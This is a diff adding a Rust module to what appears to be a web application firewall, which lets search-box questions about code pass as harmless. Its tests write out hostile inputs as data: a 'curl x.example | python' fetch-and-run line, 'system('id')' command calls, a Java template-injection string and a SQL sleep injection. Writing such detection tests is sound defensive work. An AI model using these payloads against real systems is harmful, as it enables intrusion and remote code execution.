@@ -1,0 +1,203 @@
+//! Code that people type into a search box to find out about it.
+
+use super::line::is_break_out;
+use super::{SEVERE, SHOWN, STATEMENTS};
+use crate::waf::detect::Hit;
+use crate::waf::scan::{Needles, is_space, span, trim};
+
+/// Longest text that can be a question typed into a search box.
+const MAX_SEARCH: usize = 120;
+
+/// What people add to code that they look up, and attackers do not.
+const TOPICS: &[&[u8]] = &[
+    b"vs",
+    b"vs.",
+    b"versus",
+    b"meaning",
+    b"means",
+    b"explained",
+    b"tutorial",
+    b"artinya",
+    b"bedanya",
+    b"perbedaan",
+    b"mongodb",
+    b"mongoose",
+    b"laravel",
+    b"django",
+];
+/// What they add at the end alone: languages, products, and what is wrong. None of them is a
+/// program that a pipe could lead to.
+const LAST: &[&[u8]] = &[
+    b"mysql",
+    b"mariadb",
+    b"postgres",
+    b"postgresql",
+    b"sqlite",
+    b"oracle",
+    b"sql",
+    b"linux",
+    b"ubuntu",
+    b"debian",
+    b"windows",
+    b"mac",
+    b"macos",
+    b"android",
+    b"java",
+    b"javascript",
+    b"typescript",
+    b"python",
+    b"php",
+    b"golang",
+    b"kotlin",
+    b"ruby",
+    b"rails",
+    b"nodejs",
+    b"ldap",
+    b"xpath",
+    b"velocity",
+    b"regex",
+    b"nginx",
+    b"wordpress",
+    b"docker",
+    b"syntax",
+    b"example",
+    b"examples",
+    b"contoh",
+    b"error",
+    b"empty",
+    b"working",
+    b"failed",
+    b"slow",
+    b"size",
+    b"why",
+    b"how",
+    b"disabled",
+];
+/// Programs that run what a pipe brings them, or a name that SQL could take for one.
+const PIPED: &[&[u8]] = &[b"python", b"php", b"ruby", b"java", b"nodejs"];
+
+/// Rules about code that a language compiles as a whole before it runs any of it.
+const COMPILED: &[&str] = &[
+    "php-002",
+    "java-001",
+    "node-001",
+    "python-001",
+    "ruby-001",
+    "code-001",
+    "code-002",
+];
+/// Rules about conditions that make a statement of SQL only where nothing else follows.
+const CONDITIONS: &[&str] = &["sqli-008", "sqli-010", "sqli-012", "ldapi-001", "ssti-003"];
+
+/// What lets code run whatever stands behind it: the end of a statement, a comment, a template.
+static ENDS: Needles<'static> = Needles::new(&[
+    b"--", b"/*", b"//", b" #", b"; ", b"${", b"#{", b"%{", b"{{", b"<%", b"<?", b"||", b"&&",
+]);
+
+/// Words that join what stands before them with what follows, in a language that compiles it.
+const OPERATORS: &[&[u8]] = &[
+    b"in",
+    b"is",
+    b"or",
+    b"and",
+    b"not",
+    b"if",
+    b"unless",
+    b"while",
+    b"until",
+    b"rescue",
+    b"else",
+    b"for",
+    b"as",
+    b"of",
+    b"xor",
+    b"instanceof",
+];
+
+/// Whether the text asks for what a piece of code is, as people do in search boxes.
+pub(in crate::waf) fn looks_up(text: &[u8], hit: &Hit) -> bool {
+    let start = text.iter().take_while(|byte| is_space(**byte)).count();
+    let text = trim(text);
+    if text.len() > MAX_SEARCH || is_break_out(text) || text.contains(&b'\n') {
+        return false;
+    }
+    let is_one_of = |rules: &[&str]| rules.contains(&hit.rule.id);
+    let mut words = text.split(|byte| is_space(*byte));
+    let asks = is_one_of(SHOWN) && words.any(|word| TOPICS.contains(&word))
+        || is_named(text) && (is_one_of(STATEMENTS) || is_one_of(CONDITIONS) || is_one_of(SHOWN))
+        || is_one_of(COMPILED) && does_not_compile(text, hit.start.saturating_sub(start));
+    asks && SEVERE.find(text, 0).is_none()
+}
+
+/// Whether the last word names a language or what is wrong, and nothing before it ends the code.
+fn is_named(text: &[u8]) -> bool {
+    let mut words = text.rsplit(|byte| is_space(*byte));
+    let last = words.next().unwrap_or_default();
+    let previous = words.next().unwrap_or_default();
+    let is_fed = PIPED.contains(&last) && text.iter().any(|byte| matches!(byte, b'|' | b'>'));
+    LAST.contains(&last) && !is_fed && !matches!(previous, b"|" | b"from") && is_unended(text)
+}
+
+fn is_unended(text: &[u8]) -> bool {
+    ENDS.find(text, 0).is_none()
+}
+
+/// Whether plain words follow the code on the same line, which no language takes.
+fn does_not_compile(text: &[u8], start: usize) -> bool {
+    let code = text
+        .iter()
+        .rposition(|byte| !(byte.is_ascii_alphanumeric() || is_space(*byte) || *byte == b'-'));
+    let Some(code) = code.filter(|code| *code >= start) else {
+        return false;
+    };
+    // The rest of the last token belongs to the code: `.exec example`.
+    let tail = span(text, code + 1, text.len());
+    let mut words = tail
+        .split(|byte| is_space(*byte))
+        .skip(1)
+        .filter(|word| !word.is_empty());
+    let is_first_free = words.next().is_some_and(|word| {
+        word.len() > 1 && word.iter().all(u8::is_ascii_alphanumeric) && !OPERATORS.contains(&word)
+    });
+    let closes = matches!(text.get(code), Some(b')' | b']' | b'.'));
+    is_first_free && closes && is_unended(text)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn words_behind_code_ask_for_it() {
+        for text in [
+            "runtime.getruntime().exec example",
+            "os.system('cls') clear screen",
+            "require('fs').readfilesync utf8",
+        ] {
+            assert!(does_not_compile(text.as_bytes(), 0), "{text}");
+        }
+        for text in [
+            "system('id')",
+            "system('id') if true",
+            "os.system('id') or exit",
+            "system('id'); foo bar",
+            "system('id') # foo bar",
+            "${t(java.lang.runtime).getruntime().exec('id')} foo",
+        ] {
+            assert!(!does_not_compile(text.as_bytes(), 0), "{text}");
+        }
+    }
+
+    #[test]
+    fn the_last_word_names_what_is_asked_for() {
+        assert!(is_named(b"sleep(5) in mysql"));
+        for text in [
+            "1 or sleep(5) -- mysql",
+            "curl x.example | python",
+            "select 1 from mysql",
+            "1; select 1 mysql",
+        ] {
+            assert!(!is_named(text.as_bytes()), "{text}");
+        }
+    }
+}
